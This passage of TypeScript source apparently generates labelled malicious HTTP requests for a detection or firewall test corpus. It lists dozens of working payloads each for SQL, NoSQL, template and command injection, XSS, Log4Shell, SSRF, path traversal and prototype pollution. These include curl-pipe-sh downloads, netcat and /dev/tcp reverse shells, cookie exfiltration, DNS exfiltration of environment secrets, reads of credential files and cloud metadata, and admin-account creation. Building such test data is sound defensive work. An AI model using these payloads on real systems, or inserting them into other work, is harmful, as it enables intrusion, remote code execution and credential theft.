    ["'%20OR%201=1--", 'percent-encoded inside JSON string'],
    ["1'||(select/**/load_file('/etc/passwd'))||'", 'load_file exfiltration'],
    ["'; EXEC xp_cmdshell 'whoami';--", 'xp_cmdshell'],
    ['" OR ""="', 'double-quote tautology'],
    [
      "' UNION SELECT 1,group_concat(column_name),3 FROM information_schema.columns WHERE table_name='users'-- -",
      'group_concat column enumeration',
    ],
    ['1 OR 1=1 LIMIT 1 OFFSET 0', 'numeric context tautology'],
    ["'; COPY (SELECT '') TO PROGRAM 'curl http://203.0.113.9/x|sh';--", 'PostgreSQL COPY TO PROGRAM'],
    ["' AnD 1=(SeLeCt 1 FrOm PG_SLEEP(4))--", 'mixed-case pg_sleep in subquery'],
    ['%27%20UNION%20SELECT%20NULL%2Cversion()--', 'URL-encoded UNION'],
    ["1'/*!50000UNION*//*!50000SELECT*/1,2,3-- -", 'MySQL versioned comments'],
    ["') OR benchmark(10000000,MD5(1))#", 'BENCHMARK heavy query'],
    ["test'; UPDATE users SET role='admin' WHERE email='me@x.io'--", 'stacked UPDATE privilege change'],
  ];
  placeAll(
    'sql',
    payloads,
    shuffled(ALL_PLACEMENTS.filter((p) => p !== 'objectKey')).concat([
      'queryRaw',
      'graphqlVar',
      'nestedField',
      'formField',
      'queryEncoded',
      'uaHeader',
      'jsonApiAttr',
      'graphqlGet',
      'arrayElement',
      'base64Field',
      'customHeader',
    ]),
  );
}

function genNosql(): void {
  const bodies: [string, string, string, string, Record<string, string>][] = [];
  const H = () => jsonHeaders();
  const login = (pw: unknown) => JSON.stringify({ email: 'admin@acme-mutual.example', password: pw });
  bodies.push(['POST', '/auth/login', login({ $ne: null }), '$ne operator as password', H()]);
  bodies.push(['POST', '/auth/login', login({ $gt: '' }), '$gt empty-string bypass', H()]);
  bodies.push([
    'POST',
    '/auth/login',
    JSON.stringify({ email: { $regex: '^adm' }, password: { $ne: 'x' } }),
    '$regex enumeration + $ne',
    H(),
  ]);
  bodies.push([
    'POST',
    '/claims/search',
    JSON.stringify({ filter: { $where: 'sleep(5000) || true' } }),
    '$where JavaScript sleep',
    H(),
  ]);
  bodies.push([
    'POST',
    '/claims/search',
    JSON.stringify({
      filter: { status: 'open', $or: [{ adjuster: 'me' }, { adjuster: { $exists: true } }] },
    }),
    '$or with $exists widening',
    H(),
  ]);
  bodies.push([
    'POST',
    '/v1/costs/query',
    JSON.stringify({
      match: { $expr: { $function: { body: 'function(){ return true }', args: [], lang: 'js' } } },
    }),
    '$function server-side JS',
    H(),
  ]);
  bodies.push([
    'POST',
    '/auth/login',
    login({ $in: ['hunter2', 'password', '123456', 'admin'] }),
    '$in password spraying',
    H(),
  ]);
  bodies.push(['POST', '/auth/login', uEscapeAll(login({ $ne: 1 }), '$ne'), '\\u-escaped $ne key', H()]);
  bodies.push(['POST', '/auth/login', login('{"$ne": null}'), 'operator as JSON inside string', H()]);
  bodies.push([
    'GET',
    `/ill/requests?patron[$ne]=x&status[$nin][]=closed`,
    '',
    'bracket operators in query string',
    headers(),
  ]);
  bodies.push([
    'GET',
    `/dispatch/orders?${qs({ 'restaurant[$regex]': '.*', 'state[$ne]': 'delivered' })}`,
    '',
    'percent-encoded bracket $regex in query',
    headers(),
  ]);
  bodies.push([
    'POST',
    '/galleries/access',
    JSON.stringify({ gallery: 'maja-i-piotr', pin: { $gte: 0 } }),
    '$gte on numeric PIN',
    H(),
  ]);
  bodies.push([
    'POST',
    '/graphql',
    JSON.stringify({
      query: 'query($f: JSON){ claims(filter: $f){ id insured { ssn } } }',
      variables: { f: { insured: { $ne: null } } },
    }),
    'operator in GraphQL JSON scalar',
    H(),
  ]);
  bodies.push([
    'POST',
    '/v1/costs/query',
    JSON.stringify({
      pipeline: [
        { $lookup: { from: 'users', localField: 'owner', foreignField: '_id', as: 'u' } },
        { $project: { 'u.passwordHash': 1 } },
      ],
    }),
    '$lookup aggregation exfiltration',
    H(),
  ]);
  bodies.push([
    'POST',
    '/claims/search',
    JSON.stringify({ filter: { $where: "this.role == 'admin' && this.password.match(/^a/)" } }),
    '$where blind regex',
    H(),
  ]);
  bodies.push([
    'POST',
    '/ill/requests/search',
    JSON.stringify({ query: { 'patron.id': { $regex: '^P1', $options: 'i' } } }),
    'dotted key with $regex/$options',
    H(),
  ]);
  bodies.push([
    'POST',
    '/dispatch/couriers/search',
    JSON.stringify({ q: { $text: { $search: 'x' } }, proj: { $where: '1' } }),
    '$text + $where in projection',
    H(),
  ]);
  bodies.push([
    'POST',
    '/auth/reset',
    JSON.stringify({ token: { $exists: true }, newPassword: 'Pwned!2026' }),
    '$exists on reset token',
    H(),
  ]);
  bodies.push([
    'PATCH',
    `/v1/budgets/${uuid()}`,
    JSON.stringify({ amount: { $set: { value: 0 } }, owner: { $rename: { x: 'y' } } }),
    'update operators via merge patch',
    jsonHeaders('application/merge-patch+json'),
  ]);
  bodies.push([
    'POST',
    '/auth/login',
    'email=admin%40acme-mutual.example&password%5B%24ne%5D=1',
    'form-encoded password[$ne]',
    headers({ 'content-type': 'application/x-www-form-urlencoded' }),
  ]);
  bodies.push([
    'POST',
    '/dispatch/webhooks/pos',
    JSON.stringify({ encoding: 'base64', data: b64(JSON.stringify({ orderId: { $gt: '' } })) }),
    'operator inside base64 payload',
    H(),
  ]);
  bodies.push([
    'POST',
    '/galleries/search',
    JSON.stringify({ where: { title: { $not: { $eq: 'x' } } } }),
    '$not/$eq inversion',
    H(),
  ]);
  bodies.push([
    'POST',
    '/claims/search',
    JSON.stringify({
      filter: {
        $and: [{ $where: 'function(){var d=new Date();do{c=new Date();}while(c-d<4000);return true}' }],
      },
    }),
    '$where busy-loop DoS',
    H(),
  ]);
  bodies.push([
    'GET',
    `/v1/costs?${qs({ filter: JSON.stringify({ account: { $ne: '' } }) })}`,
    '',
    'JSON filter in query string',
    headers(),
  ]);
  bodies.push([
    'POST',
    '/api/pledges',
    JSON.stringify({
      data: {
        type: 'pledges',
        attributes: { amount: 10 },
        relationships: { backer: { data: { type: 'users', id: { $ne: null } } } },
      },
    }),
    'operator as JSON:API relationship id',
    headers({ 'content-type': 'application/vnd.api+json' }, 'application/vnd.api+json'),
  ]);
  bodies.push([
    'POST',
    '/v1/costs/query',
    JSON.stringify({
      match: {
        $accumulator: {
          init: 'function(){return 1}',
          accumulate: 'function(s){return s}',
          merge: 'function(a){return a}',
          lang: 'js',
        },
      },
    }),
    '$accumulator server-side JS',
    H(),
  ]);
  bodies.push([
    'POST',
    '/auth/login',
    JSON.stringify({ email: 'admin@acme-mutual.example', password: { $type: 2 } }),
    '$type bypass',
    H(),
  ]);
  bodies.push([
    'POST',
    '/l10n/search',
    JSON.stringify({ q: "'; return db.getCollectionNames(); var x='" }),
    'server-side JS string breakout',
    H(),
  ]);
  bodies.push([
    'POST',
    '/ill/requests',
    `{"citation":{"title":"x"},"patron":{"id":"P100001","role":{"$ne":"patron"}},"notes":[{"\\u0024where":"sleep(3000)"}]}`,
    'escaped $where key nested in array',
    H(),
  ]);
  bodies.push([
    'GET',
    `/claims?adjuster[%24regex]=%5E.*&status[%24exists]=true`,
    '',
    'percent-encoded $ inside bracket keys',
    headers(),
  ]);
  for (const [method, path, body, trick, hdrs] of bodies) addAttack('nosql', trick, method, path, hdrs, body);
}

function genTemplate(): void {
  const payloads: [string, string][] = [
    ['{{7*7}}', 'Jinja/Twig arithmetic probe'],
    [
      "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
      'JS constructor chain RCE',
    ],
    ["{{''.__class__.__mro__[1].__subclasses__()}}", 'Python MRO subclass walk'],
    ["{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", 'Flask config globals popen'],
    ["${T(java.lang.Runtime).getRuntime().exec('id')}", 'Spring EL Runtime.exec'],
    ["<%= system('cat /etc/passwd') %>", 'ERB system()'],
    ['#{7*7}', 'Ruby/Thymeleaf interpolation probe'],
    ["*{T(java.lang.Runtime).getRuntime().exec('whoami')}", 'Thymeleaf selection expression'],
    ['#set($x=$class.inspect("java.lang.Runtime").type.getRuntime().exec("id"))$x', 'Velocity Runtime exec'],
    ['<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}', 'FreeMarker Execute'],
    [
      "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
      'Nunjucks range.constructor',
    ],
    ["{% import os %}{{ os.popen('id').read() }}", 'Jinja statement import'],
    [
      '{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{/with}}{{/with}}{{/with}}',
      'Handlebars lookup constructor',
    ],
    [
      "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
      'Jinja request globals',
    ],
    [
      "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
      'Jinja cycler globals',
    ],
    ['${{7*7}}', 'double-wrapped interpolation probe'],
    ['{php}echo `id`;{/php}', 'Smarty php tag'],
    ["{{['id']|filter('system')}}", 'Twig filter system'],
    [
      "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}",
      'Twig _self env callback',
    ],
    ["<%= require('child_process').execSync('id') %>", 'EJS require child_process'],
    ["#{''.class.forName('java.lang.Runtime').getRuntime().exec('id')}", 'JSF EL forName'],
    ["{{lipsum.__globals__['os'].popen('id').read()}}", 'Jinja lipsum globals'],
    ['${"freemarker.template.utility.Execute"?new()("id")}', 'FreeMarker inline new()'],
    ["{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}", 'Jinja attr with hex-escaped dunder'],
    ['@(System.Diagnostics.Process.Start("cmd.exe","/c whoami"))', 'Razor Process.Start'],
    ["{{this.constructor.constructor('return this.process.env')()}}", 'JS constructor env leak'],
    ["${@java.lang.Runtime@getRuntime().exec('id')}", 'OGNL static call'],
    ["%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}", 'Struts OGNL'],
    [
      "{{ cycler.__init__.__globals__.os.popen('curl http://203.0.113.7/p|sh').read() }}",
      'Jinja cycler download-exec',
    ],
    ['<#assign classloader=object?api.class.protectionDomain.classLoader>', 'FreeMarker ?api classloader'],
  ];
  placeAll(
    'template',
    payloads,
    shuffled(ALL_PLACEMENTS.filter((p) => p !== 'objectKey' && p !== 'queryRaw')),
  );
}

function genCommand(): void {
  const payloads: [string, string][] = [
    ['invoice.pdf; cat /etc/passwd', 'semicolon chaining'],
    ['report.csv | nc 203.0.113.5 4444 -e /bin/sh', 'pipe to netcat reverse shell'],
    ['$(curl -s http://203.0.113.9/x.sh | bash)', 'command substitution download-exec'],
    ['`id`', 'backtick substitution'],
    ['8.8.8.8 && wget http://203.0.113.9/m -O /tmp/m && chmod +x /tmp/m && /tmp/m', '&& chaining wget'],
    ['x\nid\n', 'newline separated command'],
    [';cat${IFS}/etc/shadow', '${IFS} space evasion'],
    ['|| ping -c 10 127.0.0.1', 'OR-chain timing probe'],
    ['a;bash -i >& /dev/tcp/203.0.113.5/9001 0>&1', 'bash /dev/tcp reverse shell'],
    ["foo'; python3 -c 'import os;os.system(\"id\")'; echo '", 'quote breakout into python -c'],
    [
      '& powershell -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAA==',
      'PowerShell encoded command',
    ],
    ['|certutil -urlcache -split -f http://203.0.113.9/a.exe a.exe&a.exe', 'certutil download'],
    ['$(sleep 7)', 'blind sleep substitution'],
    [';/bin/c?t /e??/p?ss??', 'glob wildcard evasion'],
    ["';c''a''t /etc/passwd;'", 'quote-split binary name'],
    ['x;{cat,/etc/passwd}', 'brace expansion'],
    ['%0acurl%20http://203.0.113.9/$(whoami)', 'percent-encoded newline'],
    ['name.png";rm -rf /tmp/*;"', 'double-quote breakout'],
    ['|echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh', 'base64-decoded shell pipeline'],
    ['$(nslookup $(whoami).x.oast.example)', 'DNS exfil via nslookup'],
    ['; perl -e \'system("id")\'', 'perl -e system'],
    ['1 ; /usr/bin/id', 'absolute path binary'],
    ['& type C:\\Windows\\win.ini', 'Windows type win.ini'],
    ['`wget -qO- 203.0.113.9/s|sh`', 'backtick wget pipe sh'],
    [';$0 -c id', '$0 shell self-reference'],
    ['a$(printf "\\x69\\x64")', 'printf hex-built command'],
    ['\nnc -lvp 4444 -e /bin/bash', 'leading newline bind shell'],
    ['||curl${IFS}-d${IFS}@/etc/passwd${IFS}203.0.113.9', 'curl file upload with IFS'],
    ['test && cmd.exe /c "net user hacker P@ss /add"', 'cmd.exe net user'],
    [';ruby -rsocket -e\'exit if fork;c=TCPSocket.new("203.0.113.5","4444")\'', 'ruby socket reverse shell'],
  ];
  const pl = [
    'nestedField',
    'formField',
    'multipartField',
    'jsonInString',
    'base64Field',
    'graphqlVar',
    'queryEncoded',
    'customHeader',
    'arrayElement',
    'unicodeEscaped',
    'ndjsonLine',
    'mergePatch',
    'jsonPatchValue',
    'deepArray',
    'jsonApiAttr',
    'graphqlGet',
  ];
  placeAll('command', payloads, shuffled(pl));
}

function genXss(): void {
  const payloads: [string, string][] = [
    ['<script>fetch("https://203.0.113.9/c?"+document.cookie)</script>', 'script cookie exfil'],
    ['<img src=x onerror=alert(document.domain)>', 'img onerror'],
    ['<svg/onload=alert`1`>', 'svg onload with template literal'],
    ['"><iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;">', 'attribute breakout iframe srcdoc'],
    ['javascript:alert(document.cookie)', 'javascript: URL in link field'],
    ['<details open ontoggle=confirm(1)>', 'details ontoggle'],
    ['<a href="jav&#x09;ascript:alert(1)">proof</a>', 'entity-split javascript: scheme'],
    ['[click me](javascript:alert(1))', 'markdown javascript link'],
    ['<body onload=eval(atob("YWxlcnQoZG9jdW1lbnQuY29va2llKQ=="))>', 'body onload atob'],
    ['<ScRiPt SrC=//203.0.113.9/x.js></sCrIpT>', 'mixed-case remote script'],
    ["'-alert(1)-'", 'JS string context breakout'],
    ['<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', 'mutation XSS math/mglyph'],
    [
      '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
      'object data: URI',
    ],
    ['<input autofocus onfocus=alert(1)>', 'autofocus onfocus'],
    ['</textarea><script>alert(1)</script>', 'textarea breakout'],
    ['<video><source onerror="alert(1)"></video>', 'video source onerror'],
    ['<svg><animate onbegin=alert(1) attributeName=x dur=1s>', 'svg animate onbegin'],
    ['<img src=1 oNeRrOr=import("//203.0.113.9/x")>', 'dynamic import in handler'],
    ['<marquee onstart=alert(1)>sale</marquee>', 'marquee onstart'],
    ['" onmouseover="alert(1)" x="', 'attribute injection onmouseover'],
    [
      '<style>@import "//203.0.113.9/x.css";</style><div style="background:url(javascript:alert(1))">',
      'style import + css javascript url',
    ],
    ['<iframe src="javascript:alert(1)"></iframe>', 'iframe javascript src'],
    ['<form action=javascript:alert(1)><button>Pay</button></form>', 'form action javascript'],
    ['%3Cscript%3Ealert(1)%3C%2Fscript%3E', 'percent-encoded script inside JSON'],
    ['&lt;img src=x onerror=alert(1)&gt;', 'HTML-entity encoded for later decode'],
    ['<svg><script href="data:,alert(1)"></script></svg>', 'svg script href data'],
    ['<base href="//203.0.113.9/">', 'base tag hijack'],
    ['<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', 'meta refresh javascript'],
    ['<isindex type=image src=1 onerror=alert(1)>', 'legacy isindex onerror'],
    ['<xss onafterscriptexecute=alert(1)><script>1</script>', 'custom element onafterscriptexecute'],
  ];
  placeAll('xss', payloads, shuffled(ALL_PLACEMENTS.filter((p) => p !== 'queryRaw' && p !== 'uaHeader')));
}

function genLog4shell(): void {
  const payloads: [string, string][] = [
    ['${jndi:ldap://203.0.113.9:1389/a}', 'plain jndi ldap'],
    ['${jndi:rmi://203.0.113.9/Exploit}', 'jndi rmi'],
    ['${jndi:dns://x.oast.example/a}', 'jndi dns callback'],
    ['${${lower:j}ndi:${lower:l}dap://203.0.113.9/x}', 'lower lookup obfuscation'],
    ['${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://203.0.113.9/z}', 'default-value split'],
    ['${${upper:j}${upper:n}${upper:d}${upper:i}:ldaps://203.0.113.9/q}', 'upper lookup obfuscation ldaps'],
    ['${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.x.oast.example/a}', 'env exfil in hostname'],
    [
      '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//203.0.113.9/b}',
      'env default-value obfuscation',
    ],
    ['${jndi:ldap://127.0.0.1#evil.oast.example:1389/a}', 'hash host bypass (CVE-2021-45046)'],
    ['${j${k8s:k5:-ND}i${sd:k5:-:}ldap://203.0.113.9/c}', 'k8s/sd lookup obfuscation'],
    ['${jNdI:LdAp://203.0.113.9/d}', 'mixed-case protocol'],
    ["${${date:'j'}ndi:ldap://203.0.113.9/e}", 'date lookup obfuscation'],
    ['${jndi:iiop://203.0.113.9/f}', 'jndi iiop'],
    ['${jndi:nis://203.0.113.9/g}', 'jndi nis'],
    ['${jndi:http://203.0.113.9/h}', 'jndi http'],
    ['${sys:java.version}${jndi:ldap://203.0.113.9/i}', 'sys lookup then jndi'],
    ['${${base64:JHtqbmRpOmxkYXA6Ly8yMDMuMC4xMTMuOS9qfQ==}}', 'base64 lookup'],
    ['$%7Bjndi:ldap://203.0.113.9/k%7D', 'percent-encoded braces'],
    ['${jndi:${lower:l}${lower:d}a${lower:p}://203.0.113.9/l}', 'partial lower on scheme'],
    ['${${main:\\k5:-Jnd}i:ldap://203.0.113.9/m}', 'main lookup escape'],
    ['${jndi:ldap://[::ffff:203.0.113.9]:1389/n}', 'IPv6-mapped host'],
    ['${${::-${::-$${::-j}}}ndi:ldap://203.0.113.9/o}', 'nested recursive default'],
    ['${jndi:corba://203.0.113.9/p}', 'jndi corba'],
    ['${ctx:loginId}${jndi:ldap://203.0.113.9/q}', 'ctx lookup prefix'],
    ['${jndi:ldap://${hostName}.${sys:user.name}.x.oast.example/r}', 'hostname/user exfil'],
    ['${${lower:${lower:jndi}}:${lower:rmi}://203.0.113.9/s}', 'double-nested lower'],
    ['${jndi:dns://${env:DB_PASSWORD}.oast.example}', 'env DB_PASSWORD exfil'],
    ['${${lower:J}${upper:n}${lower:D}i:ldap://203.0.113.9/t}', 'mixed lower/upper per letter'],
    ['${jn${env:x:-}di:ldap://203.0.113.9/u}', 'empty env insertion'],
    ['${jndi:ldap://x.oast.example/${java:version}}', 'java lookup in path'],
  ];
  const pl = shuffled([
    'uaHeader',
    'refererHeader',
    'customHeader',
    'uaHeader',
    'customHeader',
    'nestedField',
    'graphqlVar',
    'queryEncoded',
    'formField',
    'arrayElement',
    'unicodeEscaped',
    'jsonInString',
    'base64Field',
    'ndjsonLine',
    'multipartField',
    'mergePatch',
    'jsonApiAttr',
    'objectKey',
    'deepArray',
    'graphqlGet',
    'jsonPatchValue',
  ]);
  placeAll('log4shell', payloads, pl);
}

function genSsrf(): void {
  const targets: [string, string][] = [
    ['http://169.254.169.254/latest/meta-data/iam/security-credentials/', 'AWS IMDS credentials'],
    [
      'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
      'GCP metadata token',
    ],
    ['http://169.254.169.254/metadata/instance?api-version=2021-02-01', 'Azure IMDS'],
    ['http://127.0.0.1:2375/containers/json', 'Docker API on loopback'],
    ['http://localhost:6379/', 'Redis on localhost'],
    ['http://2130706433/admin', 'decimal IPv4 loopback'],
    ['http://0x7f000001:8080/actuator/env', 'hex IPv4 loopback'],
    ['http://0177.0.0.1/', 'octal IPv4 loopback'],
    ['http://127.1/server-status', 'short-form loopback'],
    ['http://[::1]:9200/_cat/indices', 'IPv6 loopback Elasticsearch'],
    ['http://[::ffff:169.254.169.254]/latest/user-data', 'IPv4-mapped IPv6 IMDS'],
    ['http://cdn.proofbox.photo@169.254.169.254/latest/meta-data/', 'userinfo confusion'],
    ['gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A', 'gopher Redis smuggling'],
    ['file:///etc/passwd', 'file scheme'],
    ['dict://127.0.0.1:11211/stats', 'dict scheme memcached'],
    ['http://169.254.169.254.nip.io/latest/meta-data/', 'wildcard DNS to IMDS'],
    ['http://0.0.0.0:8500/v1/agent/self', 'zero address Consul'],
    ['http://10.0.0.12:8080/internal/admin', 'RFC1918 internal admin'],
    ['http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets', 'in-cluster Kubernetes API'],
    ['http://100.100.100.200/latest/meta-data/', 'Alibaba metadata'],
    ['http://[fd00:ec2::254]/latest/meta-data/', 'AWS IMDS IPv6'],
    ['http://169.254.169.254%2F@example.com/', 'encoded slash authority confusion'],
    ['http://①②⑦.⓪.⓪.①/', 'enclosed-alphanumeric loopback'],
    [
      'https://example.com/redirect?to=http://169.254.169.254/latest/api/token',
      'open-redirect chain to IMDS',
    ],
    ['http://localtest.me:15000/config_dump', 'DNS name resolving to loopback'],
    ['ldap://127.0.0.1:389/dc=corp', 'ldap scheme internal'],
    ['http://192.168.0.1/cgi-bin/luci', 'router admin private range'],
    ['jar:http://127.0.0.1:8080/x.jar!/', 'jar scheme'],
    ['http://169.254.170.2/v2/credentials/' + uuid(), 'ECS task credentials endpoint'],
    ['http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/', 'dotted-hex IMDS'],
  ];
  const placers: ((u: string) => [string, string, Record<string, string>, string, string])[] = [
    (u) => [
      'POST',
      '/v1/integrations/webhooks',
      jsonHeaders(),
      JSON.stringify({ name: 'budget alerts', url: u, events: ['budget.threshold'] }),
      'webhook url field',
    ],
    (u) => [
      'POST',
      `/galleries/${uuid()}/imports`,
      jsonHeaders(),
      JSON.stringify({ source: { type: 'url', href: u }, album: 'Ceremony' }),
      'nested import href',
    ],
    (u) => [
      'POST',
      `/claims/CLM-2026-${int(10000, 99999)}/documents:fetch`,
      jsonHeaders(),
      JSON.stringify({ documents: [{ type: 'estimate', remoteUrl: u }] }),
      'array of remote documents',
    ],
    (u) => ['GET', `/v1/preview?${qs({ url: u })}`, headers(), '', 'preview url query param'],
    (u) => [
      'POST',
      '/graphql',
      jsonHeaders(),
      JSON.stringify({
        query: 'mutation($u: URL!){ importCatalogRecord(marcUrl: $u){ id } }',
        variables: { u },
      }),
      'GraphQL variable URL',
    ],
    (u) => [
      'PATCH',
      `/projects/zuraw`,
      jsonHeaders('application/merge-patch+json'),
      JSON.stringify({ links: { presskit: u } }),
      'merge-patch link',
    ],
    (u) => [
      'POST',
      '/dispatch/webhooks/pos',
      jsonHeaders(),
      JSON.stringify({ encoding: 'base64', data: b64(JSON.stringify({ callback: u })) }),
      'base64-wrapped callback',
    ],
    (u) => [
      'POST',
      '/l10n/projects/costwise/import',
      jsonHeaders(),
      uEscapeAll(JSON.stringify({ fromUrl: u, format: 'xliff' }), u.slice(0, 7)),
      '\\u-escaped scheme',
    ],
    (u) => [
      'POST',
      `/inspections/${uuid()}/photos:fromUrl`,
      headers({ 'content-type': 'application/x-www-form-urlencoded' }),
      formBody({ imageUrl: u, caption: 'from drone' }),
      'form field',
    ],
    (u) => [
      'GET',
      `/ill/catalog/openurl?${qs({ rft_id: u, 'rft.genre': 'article' })}`,
      headers(),
      '',
      'OpenURL rft_id',
    ],
  ];
  let i = 0;
  for (const [u, trick] of targets) {
    const placer = placers[i % placers.length];
    i++;
    if (placer === undefined) continue;
    const [m, p, h, b, where] = placer(u);
    addAttack('ssrf', `${trick}; ${where}`, m, p, h, b);
  }
}

function genPathTraversal(): void {
  const entries: [string, string, Record<string, string>, string, string][] = [];
  const add = (m: string, p: string, b: unknown, trick: string, ct?: string): void => {
    const h = b === '' ? headers() : jsonHeaders(ct ?? 'application/json');
    entries.push([m, p, h, typeof b === 'string' ? b : JSON.stringify(b), trick]);
  };
  add('GET', '/files/../../../../etc/passwd', '', 'raw ../ in path');
  add('GET', '/galleries/download?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd', '', 'encoded slashes in query');
  add(
    'GET',
    '/galleries/download?file=%252e%252e%252f%252e%252e%252fetc%252fshadow',
    '',
    'double percent-encoding',
  );
  add('GET', '/static/..%2f..%2f..%2fproc%2fself%2fenviron', '', 'encoded slash in path');
  add('GET', '/static/%2e%2e/%2e%2e/%2e%2e/etc/hosts', '', 'encoded dots in path');
  add(
    'GET',
    '/l10n/projects/costwise/export?locale=..%5C..%5C..%5Cwindows%5Cwin.ini',
    '',
    'encoded backslashes',
  );
  add('GET', '/static/..%c0%af..%c0%af..%c0%afetc/passwd', '', 'overlong UTF-8 slash');
  add(
    'GET',
    `/claims/documents?${qs({ path: '....//....//....//etc/passwd' })}`,
    '',
    'nested ....// strip bypass',
  );
  add(
    'GET',
    `/ill/scans?${qs({ name: '/var/www/../../etc/passwd%00.pdf' })}`,
    '',
    'null byte extension truncation',
  );
  add(
    'POST',
    `/inspections/${uuid()}/attachments`,
    { attachment: { path: '../../../../root/.ssh/id_rsa', label: 'diagram' } },
    'nested JSON path field',
  );
  add(
    'POST',
    '/l10n/projects/costwise/import',
    { files: ['de-DE.json', '../../../config/secrets.yaml'] },
    'array of file names',
  );
  add(
    'POST',
    '/v1/reports/export',
    { template: '..\\..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts' },
    'Windows backslash traversal',
  );
  add(
    'POST',
    '/v1/reports/export',
    `{"template":"\\u002e\\u002e\\u002f\\u002e\\u002e\\u002f\\u002e\\u002e\\u002fetc\\u002fpasswd"}`,
    '\\u-escaped dots and slashes',
  );
  add(
    'POST',
    '/dispatch/webhooks/pos',
    { encoding: 'base64', data: b64(JSON.stringify({ receiptPath: '../../../../proc/self/cwd/.env' })) },
    'base64-wrapped path',
  );
  add(
    'POST',
    '/graphql',
    {
      query: 'query($p: String!){ asset(path: $p){ contents } }',
      variables: { p: '../../../../../etc/passwd' },
    },
    'GraphQL variable path',
  );
  add(
    'PATCH',
    `/galleries/${uuid()}`,
    { cover: { file: '/../../../../var/run/secrets/kubernetes.io/serviceaccount/token' } },
    'merge-patch file ref',
    'application/merge-patch+json',
  );
  add(
    'PATCH',
    `/projects/zuraw/assets`,
    [{ op: 'replace', path: '/icon', value: 'file:///../../../etc/passwd' }],
    'JSON-Patch file URL',
    'application/json-patch+json',
  );
  add('GET', '/static/..;/..;/WEB-INF/web.xml', '', 'semicolon path parameter (Tomcat)');
  add('GET', '/static/.%2e/.%2e/.%2e/etc/passwd', '', 'mixed dot encoding');
  add(
    'GET',
    `/ill/scans/download?${qs({ f: '%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd' })}`,
    '',
    'pre-encoded then encoded again',
  );
  add('GET', '/static/%uff0e%uff0e/%uff0e%uff0e/etc/passwd', '', '%u fullwidth dot encoding');
  add(
    'POST',
    '/l10n/projects/costwise/strings',
    { key: 'x', value: 'y', sourceFile: '..\\/..\\/..\\/etc/passwd' },
    'mixed slash separators',
  );
  add('GET', `/v1/exports/${encodeURIComponent('../../../../etc/passwd')}`, '', 'fully encoded path segment');
  add(
    'POST',
    '/claims/CLM-2026-10421/photos:copy',
    { from: 'uploads/ok.jpg', to: '../../../../../var/www/html/shell.php' },
    'traversal in write destination',
  );
  add(
    'GET',
    `/galleries/${uuid()}/photos/..%252f..%252f..%252fetc%252fpasswd`,
    '',
    'double-encoded in REST segment',
  );
  add('GET', '/static/..\\..\\..\\..\\boot.ini', '', 'raw backslashes in path');
  add(
    'POST',
    '/v1/notebooks/import',
    { notebook: { includes: [{ file: '/etc/passwd' }, { file: '../../.aws/credentials' }] } },
    'absolute path and dotdot in includes',
  );
  add(
    'GET',
    `/ill/catalog/cover?${qs({ img: 'covers/../../../../../proc/self/environ' })}`,
    '',
    'prefix then traversal',
  );
  add(
    'POST',
    '/dispatch/menu/images',
    { image: { name: '....\\\\....\\\\....\\\\windows\\\\win.ini' } },
    'doubled-dot backslash bypass',
  );
  entries.push([
    'POST',
    `/inspections/${uuid()}/photos`,
    ...(() => {
      const [ct, body] = multipart([
        { name: 'caption', value: 'valve' },
        { name: 'file', filename: '../../../../var/www/html/x.php', type: 'image/jpeg', value: fakeJpeg() },
      ]);
      return [headers({ 'content-type': ct }), body, 'multipart filename traversal'] as [
        Record<string, string>,
        string,
        string,
      ];
    })(),
  ]);
  for (const [m, p, h, b, trick] of entries) addAttack('path-traversal', trick, m, p, h, b);
}

function genProto(): void {
  const entries: [string, string, Record<string, string>, string, string][] = [];
  const J = (m: string, p: string, body: string, trick: string, ct = 'application/json'): void => {
    entries.push([m, p, jsonHeaders(ct), body, trick]);
  };
  J('POST', '/v1/budgets', '{"name":"x","__proto__":{"isAdmin":true}}', 'top-level __proto__');
  J(
    'PATCH',
    `/v1/budgets/${uuid()}`,
    '{"alerts":{"__proto__":{"polluted":"yes"}}}',
    'nested __proto__ via merge-patch',
    'application/merge-patch+json',
  );
  J(
    'POST',
    '/v1/tags/bulk',
    '{"tags":{"constructor":{"prototype":{"role":"admin"}}}}',
    'constructor.prototype',
  );
  J(
    'PATCH',
    `/v1/resources/r-${hex(10)}/tags`,
    '[{"op":"add","path":"/__proto__/isAdmin","value":true}]',
    'JSON-Patch path into __proto__',
    'application/json-patch+json',
  );
  J(
    'PATCH',
    `/v1/resources/r-${hex(10)}/tags`,
    '[{"op":"replace","path":"/constructor/prototype/shell","value":"/bin/sh"}]',
    'JSON-Patch constructor/prototype',
    'application/json-patch+json',
  );
  J(
    'POST',
    `/galleries/${uuid()}/settings`,
    '{"\\u005f\\u005fproto\\u005f\\u005f":{"downloadAllowed":true}}',
    '\\u-escaped __proto__ key',
  );
  J(
    'POST',
